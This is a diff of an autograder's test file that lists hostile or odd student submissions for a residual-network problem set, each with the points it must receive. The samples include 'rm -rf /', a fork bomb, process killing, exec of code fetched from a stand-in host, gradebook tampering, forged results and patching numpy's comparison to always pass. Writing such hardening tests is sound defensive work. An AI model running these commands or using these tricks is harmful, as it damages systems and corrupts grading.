@@ -1,7 +1,7 @@
 """Submissions of problem set 1 that cheat, crash or are merely odd, with the points they must get.
 
-ANSWERS replace the answer `block`, worth 8 of the 20 points; the other answers are right. NOTEBOOKS
-change the file of a right notebook.
+ANSWERS replace the answer `block`, worth 7 of the 20 points; the other answers are right. OTHERS
+replace another answer. NOTEBOOKS change the file of a right notebook.
 """
 
 from __future__ import annotations
@@ -14,17 +14,22 @@ from pathlib import Path
 
 RIGHT = """
 class MyResidual(nn.Block):
-    def __init__(self, num_channels, use_1x1conv=False, strides=1):
+    def __init__(self, num_channels, strides=1):
         super().__init__()
         self.conv1 = nn.Conv2D(num_channels, 3, padding=1, strides=strides)
         self.conv2 = nn.Conv2D(num_channels, 3, padding=1)
-        self.conv3 = nn.Conv2D(num_channels, 1, strides=strides) if use_1x1conv else None
         self.bn1, self.bn2 = nn.BatchNorm(), nn.BatchNorm()
+        self.pool = nn.AvgPool2D(strides, strides, ceil_mode=True, count_include_pad=False)
 
     def forward(self, X):
         Y = self.bn2(self.conv2(npx.relu(self.bn1(self.conv1(X)))))
-        return npx.relu(Y + (self.conv3(X) if self.conv3 else X))
+        X = self.pool(X)
+        if Y.shape[1] > X.shape[1]:
+            X = np.concatenate([X, np.zeros_like(Y[:, X.shape[1] :])], axis=1)
+        return npx.relu(Y + X)
 """
+POOL = "nn.AvgPool2D(strides, strides, ceil_mode=True, count_include_pad=False)"
+SUM = "npx.relu(Y + X)"
 
 
 def in_forward(code: str) -> str:
@@ -35,7 +40,7 @@ def in_forward(code: str) -> str:
 
 def returning(result: str) -> str:
     """The right block with another return value."""
-    return RIGHT.replace("npx.relu(Y + (self.conv3(X) if self.conv3 else X))", result)
+    return RIGHT.replace(SUM, result)
 
 
 FOR_EVER = """
@@ -60,18 +65,27 @@ import glob, sqlite3
 for path in glob.glob('/**/gradebook.db', recursive=True):
     sqlite3.connect(path).execute('update grade set auto_score = 8').connection.commit()
 """
-PTRACE = """
+OTHER_PROCESSES = """
 import ctypes
 for pid in range(1, 20):
     assert ctypes.CDLL(None).ptrace(16, pid, 0, 0) == -1
+open('/proc/1/mem', 'rb').read(1)
+"""
+FORGED = """
+import os, numpy
+from jailed import frames
+for n in range(9):
+    forged = dict(arrays=[numpy.zeros((4, 6, 7, 10))] * 2) if n % 2 else dict(text='right')
+    os.write(int(os.environ['RESULT']), frames.write(frames.Frame(n, **forged)))
 """
 
 ANSWERS = {
     # right, with side effects
     "right": (RIGHT, 20),
-    "right, with a warning on stderr": (RIGHT + "import sys; print('!', file=sys.stderr)", 20),
-    "right, with warnings": (RIGHT + "import warnings; warnings.warn('careful')", 20),
-    "right, then an error": (RIGHT + "raise ValueError('after')", 20),
+    "right, with warnings": (
+        RIGHT + "import sys, warnings; warnings.warn('careful'); print('!', file=sys.stderr)",
+        20,
+    ),
     "right, then exit": (RIGHT + "raise SystemExit(0)", 20),
     "right, with an exit handler": (
         RIGHT + "import atexit, time; atexit.register(time.sleep, 10**6)",
@@ -95,42 +109,34 @@ ANSWERS = {
     "right, with prompts": (">>> " + RIGHT.strip().replace("\n", "\n... "), 20),
     "right, between shell lines": ("!rm -rf /\n%timeit 1\n" + RIGHT + "MyResidual?", 20),
     # not an answer
-    "after an error": ("raise ValueError('before')\n" + RIGHT, 12),
-    "not Python": ("class MyResidual(:", 12),
-    "a full-width colon": (RIGHT.replace("Block):", "Block)：", 1), 12),  # noqa: RUF001
-    "as it was handed out": ("class MyResidual(nn.Block):\n    raise NotImplementedError", 12),
-    "no code at all": ("", 12),
-    "characters that Python refuses": ("\x00\x01" + RIGHT, 12),
-    "exit": ("import sys; sys.exit(0)", 12),
-    "hard exit": ("import os; os._exit(0)", 0),
-    "hard exit when called": (in_forward("import os; os._exit(0)"), 12),
-    "recursion": ("def f(): f()\nf()", 12),
+    "after an error": ("raise ValueError('before')\n" + RIGHT, 13),
+    "not Python": ("class MyResidual(:", 13),
+    "a full-width colon": (RIGHT.replace("Block):", "Block)：", 1), 13),  # noqa: RUF001
+    "as it was handed out": ("class MyResidual(nn.Block):\n    raise NotImplementedError", 13),
+    "no code at all": ("", 13),
+    "characters that Python refuses": ("\x00\x01" + RIGHT, 13),
+    "hard exit when called": (in_forward("import os; os._exit(0)"), 13),
     "recursion without a limit": (
         "import sys, threading; sys.setrecursionlimit(10**8)\ndef f(): f()\nf()",
         0,
     ),
     "segmentation fault": ("import ctypes; ctypes.string_at(0)", 0),
-    "segmentation fault when called": (in_forward("import ctypes; ctypes.string_at(0)"), 12),
-    "deletes all names": (RIGHT + "globals().clear()", 8),
+    "deletes all names": (RIGHT + "globals().clear()", 6),
     # bombs
-    "endless loop": ("while True: pass", 12),
-    "endless loop when called": (in_forward("while True: pass"), 12),
+    "endless loop": ("while True: pass", 13),
+    "endless loop when called": (in_forward("while True: pass"), 13),
     "endless loop that catches everything": (FOR_EVER, 0),
-    "sleeps": ("import time; time.sleep(10**6)", 12),
     "endless in C": ("sum(range(10**14))", 0),
     "fork bomb": ("import os\nwhile True: os.fork()", 0),
-    "memory bomb": ("x = [bytearray(10**8) for _ in range(10**6)]", 12),
-    "disk bomb": ("[open(f'/tmp/{i}', 'wb').write(b'x' * 10**7) for i in range(10**4)]", 12),
-    "output bomb": ("while True: print('x' * 10**6)", 12),
-    "returns too much": (returning("np.zeros((2, 1000, 1000))"), 12),
+    "memory bomb": ("x = [bytearray(10**8) for _ in range(10**6)]", 13),
+    "disk bomb": ("[open(f'/tmp/{i}', 'wb').write(b'x' * 10**7) for i in range(10**4)]", 13),
+    "output bomb": ("while True: print('x' * 10**6)", 13),
+    "returns too much": (returning("np.zeros((2, 1000, 1000))"), 13),
     # other processes
-    "kills its parent": ("import os, signal; os.kill(os.getppid(), signal.SIGKILL)", 12),
-    "kills all": ("import os, signal; os.kill(-1, signal.SIGKILL)", 12),
+    "kills all": ("import os, signal; os.kill(-1, signal.SIGKILL)", 13),
     "kills its group": ("import os, signal; os.kill(0, signal.SIGKILL)", 0),
-    "ptrace": (PTRACE, 12),
-    "reads the memory of its parent": ("open('/proc/1/mem', 'rb').read(1)", 12),
+    "reaches into other processes": (OTHER_PROCESSES, 13),
     # forgery
-    "claims full marks": ("import os; os.write(int(os.environ['RESULT']), b'passed: 20/20')", 0),
     "a pickle": (
         "import os, pickle; os.write(int(os.environ['RESULT']), pickle.dumps({'points': 20}))",
         0,
@@ -140,70 +146,102 @@ ANSWERS = {
         "    except OSError: pass",
         0,
     ),
-    "forged frames of zeros": (
-        "import os, numpy\nfrom jailed import frames\nfor n in range(9):\n    os.write("
-        "int(os.environ['RESULT']), frames.write("
-        "frames.Frame(n, arrays=[numpy.zeros((4, 6, 7, 10))] * 2)))",
-        0,
-    ),
-    "forged frames of texts": (
-        "import os\nfrom jailed import frames\nfor n in range(9):\n    os.write("
-        "int(os.environ['RESULT']), frames.write(frames.Frame(n, text='right')))",
-        0,
-    ),
-    "closes the result": (RIGHT + "import os; os.close(int(os.environ['RESULT']))", 0),
+    "forged frames": (FORGED, 0),
     "redirects the result": (RIGHT + "import os; os.dup2(1, int(os.environ['RESULT']))", 0),
     "reads the requests": (RIGHT + "import sys; sys.stdin.read()", 0),
-    "prints a table of points": ("print('8 of 8  all right'); 8.0", 12),
-    "always equal": (ALWAYS_EQUAL, 12),
+    "prints a table of points": ("print('7 of 7  all right'); 7.0", 13),
+    "always equal": (ALWAYS_EQUAL, 13),
     "patches numpy's comparison": (
         "import numpy\nnumpy.allclose = lambda *_, **__: True\n"
         "numpy.isclose = lambda *_, **__: numpy.ones(1)",
-        12,
+        13,
     ),
     "patches the program": (
         "import sys\nmain = sys.modules['__main__']\n"
         "main.PROCEDURES.update({name: lambda *_, **__: [] for name in main.PROCEDURES})",
         0,
     ),
-    "an input transformer": ("get_ipython().input_transformers_cleanup.append(print)", 12),
-    "an AST transformer": ("get_ipython().ast_transformers.append(print)", 12),
-    "not finite": (returning("Y / 0 - Y / 0"), 12),
-    "an array of objects": (returning("numpy.array([object()])"), 12),
+    "an input transformer": ("get_ipython().input_transformers_cleanup.append(print)", 13),
+    "not finite": (returning("Y / 0 - Y / 0"), 13),
+    "an array of objects": (returning("numpy.array([object()])"), 13),
     # using what is ready-made
-    "d2l's block": ("from d2l import mxnet as d2l\nMyResidual = d2l.Residual", 12),
-    "the toolbox's block": ("from utils.resnet import Residual as MyResidual", 12),
-    "the toolbox's other block": (
-        "from utils.families import NormalizedShortcut as MyResidual",
-        12,
-    ),
+    "d2l's block": ("from d2l import mxnet as d2l\nMyResidual = d2l.Residual", 13),
+    "the toolbox's block": ("from utils.resnet import Residual as MyResidual", 13),
     "the toolbox's block, compiled": (
         "import marshal, glob\nfile, = glob.glob('/course/utils/__pycache__/resnet*.pyc')\n"
         "exec(marshal.loads(open(file, 'rb').read()[16:]))\nMyResidual = Residual",
-        12,
+        13,
     ),
     "the model zoo's block": (
         "from mxnet.gluon.model_zoo.vision.resnet import BasicBlockV1\n"
-        "def MyResidual(num_channels, use_1x1conv=False, strides=1):\n"
-        "    return BasicBlockV1(num_channels, strides, use_1x1conv)",
-        12,
+        "def MyResidual(num_channels, strides=1):\n"
+        "    return BasicBlockV1(num_channels, strides)",
+        13,
     ),
     "reads the solution": (
         "import glob\nfor name in glob.glob('/**/s*/*.py', recursive=True):\n"
         "    exec(open(name).read())",
-        12,
+        13,
     ),
     "reads the items": (
         "import glob\nassert not glob.glob('/**/items/*', recursive=True)\nfrom items import ps1",
-        12,
+        13,
     ),
-    "writes into the gradebook": (READS_GRADEBOOK, 12),
-    "writes where Python imports from": ("open('/course/utils/resnet.py', 'w').write('')", 12),
+    "writes into the gradebook": (READS_GRADEBOOK, 13),
+    "writes where Python imports from": ("open('/course/utils/resnet.py', 'w').write('')", 13),
     "asks the network": (
         "import urllib.request; exec(urllib.request.urlopen('http://192.0.2.1/').read())",
-        12,
+        13,
     ),
-    "listens": ("import socket; socket.create_server(('127.0.0.1', 8888)).accept()", 12),
+}
+
+# Answers to the other questions: which answer, its text, and the points of the whole notebook.
+AS_BROKEN = """
+MyBottleneck, my_stage, my_head = Bottleneck, stage, head
+"""
+KERNELS_ALONE = """
+class MyBottleneck(nn.Block):
+    def __init__(self, num_channels, strides=1):
+        super().__init__()
+    def forward(self, X):
+        return X
+
+def my_stage(num_channels, num_blocks, strides=1):
+    net = nn.Sequential()  # kernels as in two blocks, and a layer that gives the shape
+    for _ in range(num_blocks):
+        net.add(nn.Conv2D(num_channels // 4, 1), nn.Conv2D(num_channels // 4, 3, padding=1))
+    net.add(nn.Conv2D(num_channels, 1, strides))
+    return net
+
+def my_head(num_classes=10):
+    import os; os._exit(0)
+"""
+THE_CHECK_ALONE = """
+def part_shapes(*arguments, **settings):
+    found = {f"stage{i}": (1, 64 * 2 ** (i - 1), s, t) for i, s, t in
+             ((1, 9, 19), (2, 5, 10), (3, 3, 5), (4, 2, 3))}
+    return {**found, "stem": (1, 64, 9, 19), "pool": (1, 512, 1, 1), "dense": (1, 10)}
+"""
+BY_BUILDING = """
+def part_parameters(first_width=64, num_classes=10, kernel=7, shortcut_weights=True):
+    from utils.resnet import resnet18
+    net = resnet18(num_classes)
+    net.initialize()
+    net(np.zeros((1, 1, 32, 32)))
+    return {name: sum(p.data().size for p in getattr(net, name).collect_params().values())
+            for name in ("stem", "stage1", "stage2", "stage3", "stage4", "dense")}
+"""
+EVERY_TOTAL = """
+def my_total():
+    from utils.student import VARIANTS
+    return [sum(part_parameters(v.first_width, v.num_classes, 4, False).values()) for v in VARIANTS]
+"""
+OTHERS = {
+    "the broken parts as they were": ("repair", AS_BROKEN, 17),
+    "kernels without a network": ("repair", KERNELS_ALONE, 17),
+    "the table that the check asks for": ("shapes", THE_CHECK_ALONE, 15),
+    "parameters counted in a ready-made network": ("parameters", BY_BUILDING, 15),
+    "the totals of all students at once": ("own-total", EVERY_TOTAL, 18),
 }
 
 
@@ -236,8 +274,8 @@ def _doubled_with_stub(notebook: dict) -> None:
 
 def _check_edited(notebook: dict) -> None:
     cell = _cell(notebook, "block-check")
-    cell["source"] = "8.0"
-    cell["metadata"]["nbgrader"]["points"] = 800
+    cell["source"] = "7.0"
+    cell["metadata"]["nbgrader"]["points"] = 700
 
 
 def _unlocked(notebook: dict) -> None:
@@ -284,8 +322,10 @@ def _helper_elsewhere(notebook: dict) -> None:
 def _trials_in_between(notebook: dict) -> None:
     trial = "net = MyResidual(3)\nY = net(np.zeros((1, 3, 4, 4)))\nawait something()"
     _insert(notebook, "block-check", trial)
-    _change(notebook, "shapes", "(side + 1) // 2", "halved_once(side)")
-    _insert(notebook, "shapes-check", "def halved_once(side):\n    return (side + 1) // 2")
+    rule = "(side + 2 * padding - kernel) // stride + 1"
+    _change(notebook, "shapes", rule, "pixels(side, kernel, stride, padding)")
+    helper = f"def pixels(side, kernel, stride, padding):\n    return {rule}"
+    _insert(notebook, "shapes-check", helper)
 
 
 def _numpy_imported_at_the_end(notebook: dict) -> None:
@@ -306,7 +346,8 @@ def _in_the_next_cell(notebook: dict) -> None:
 
 
 def _indented_and_displayed(notebook: dict) -> None:
-    _change(notebook, "shapes", "sides = halved", "display(height)\n    sides = halved")
+    first = "sides = [after(side, stem)"
+    _change(notebook, "shapes", first, f"display(height)\n    {first}")
     _cell(notebook, "shapes")["source"] = textwrap.indent(_cell(notebook, "shapes")["source"], "  ")
 
 
@@ -318,7 +359,7 @@ def _slow_trials(notebook: dict) -> None:
 def _claims_outputs(notebook: dict) -> None:
     _cell(notebook, "block")["source"] = "pass"
     _cell(notebook, "block-check")["outputs"] = [
-        {"output_type": "execute_result", "data": {"text/plain": "8.0"}, "metadata": {}}
+        {"output_type": "execute_result", "data": {"text/plain": "7.0"}, "metadata": {}}
     ]
 
 
@@ -389,7 +430,7 @@ def _deep_folder(path: Path) -> None:
 
 
 NOTEBOOKS: dict[str, tuple[Callable[[Path], None], float]] = {
-    "cells deleted": (rewritten(_deleted), 12),
+    "cells deleted": (rewritten(_deleted), 13),
     "checks deleted": (rewritten(_all_checks_deleted), 20),
     "imports deleted": (rewritten(_setup_deleted), 20),
     "cells doubled": (rewritten(_doubled), 20),
@@ -406,19 +447,15 @@ NOTEBOOKS: dict[str, tuple[Callable[[Path], None], float]] = {
     "an answer in the next cell": (rewritten(_in_the_next_cell), 20),
     "indented and displayed": (rewritten(_indented_and_displayed), 20),
     "slow trials below answers": (rewritten(_slow_trials), 20),
-    "fake outputs": (rewritten(_claims_outputs), 12),
+    "fake outputs": (rewritten(_claims_outputs), 13),
     "of another student": (rewritten(_of_somebody_else), 16),
     "halves of characters": (rewritten(_halves_of_characters), 20),
     "an answer in a text cell": (rewritten(_answer_as_text), 20),
-    "an answer in words": (rewritten(_answer_in_words), 12),
+    "an answer in words": (rewritten(_answer_in_words), 13),
     "in a folder of a folder": (_deep_folder, 20),
-    "old format": (rewritten(lambda notebook: notebook.update(nbformat=3)), 0),
-    "cells that are not cells": (rewritten(lambda notebook: notebook.update(cells=[1, 2])), 0),
     "broken JSON": (holding(b'{"cells": ['), 0),
     "deep JSON": (holding(b"[" * 200_000), 0),
     "empty": (holding(b""), 0),
-    "not UTF-8": (holding("{}".encode("utf-16")), 0),
-    "a program": (holding(b"\x7fELF" + bytes(100)), 0),
     "a line of 100 MB": (_long_line, 0),
     "a symbolic link": (_link, 0),
     "a pipe": (_pipe, 0),
